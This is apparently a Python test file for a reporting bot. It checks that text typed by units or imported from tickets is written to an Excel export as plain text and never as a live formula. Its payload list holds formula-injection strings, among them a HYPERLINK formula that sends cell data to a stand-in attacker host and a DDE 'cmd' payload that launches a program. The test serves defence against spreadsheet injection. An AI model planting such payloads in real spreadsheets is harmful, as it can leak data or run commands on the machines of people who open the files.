"""Spreadsheet formula injection: text typed by units (answers, explanations) and imported
from ticket files that starts with = + - @, a tab or a carriage return is written to the
export as text, never as a formula, and reads back exactly as typed."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from bot.report import compile_draft, export_xlsx
from bot.workspace.load import load_workspace
from domain.answers import Answer
from domain.calendar import period_window
from domain.obligations import obligations_owed
from domain.periods import Period
from domain.tickets import Ticket
from storage import Database
from tests.support.offices import write_office

PERIOD = Period(2022, 2)
NOW = datetime(2022, 2, 17, 9, 0, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
UNITS = "mã đơn vị,tên đơn vị,nhóm,biểu mẫu\n" + "".join(
    f"U{i},UBND xã {i},Xã,bc\n" for i in range(12)
)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-",
    "=",
    "  =1+1",
    "ghi chú\n=1+1",
]


async def test_typed_and_imported_formulas_stay_text(
    tmp_path: Path, figures: Callable[[str], None]
) -> None:
    workspace = load_workspace(write_office(tmp_path, UNITS))
    db = await Database.open(tmp_path / "t.sqlite3", synchronous="OFF")
    cutoff = period_window(PERIOD, workspace.settings.regime)[1]
    tickets = [
        Ticket(f"PA-{i}", date(2022, 2, 1), channel=p, unit_text=p, summary=p)
        for i, p in enumerate(PAYLOADS)
    ]
    try:
        async with db.write() as tx:
            await tx.units.sync_all(workspace.units)
            await tx.obligations.ensure(obligations_owed(workspace.units, PERIOD, cutoff))
            for i, payload in enumerate(PAYLOADS):
                answer = Answer(
                    f"U{i}", "bc", PERIOD.key, "ghi_chu", payload, payload, updated_at=NOW
                )
                await tx.answers.set(answer, payload)  # changed_by typed too
        data = await export_xlsx(db, workspace, PERIOD, tickets)
        draft = await compile_draft(db, workspace, PERIOD, NOW)
    finally:
        await db.close()
    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        formulas = [n for n in xlsx.namelist() if "<f>" in xlsx.read(n).decode()]
    assert formulas == []
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    missing = [p for p in PAYLOADS if p not in texts]
    # Each payload as an answer, its explanation, the revision's old/new values and author,
    # and the ticket's channel, unit and summary.
    shown = sum(texts.count(p) for p in PAYLOADS)
    assert not missing, f"not read back as typed: {missing}"
    assert "=1+1" in draft.markdown  # the draft prints it as typed, too
    figures(
        f"formula injection: payloads={len(PAYLOADS)} cells_with_payload={shown} "
        f"formula_cells=0 read_back_as_typed={len(PAYLOADS) - len(missing)}/{len(PAYLOADS)}"
    )
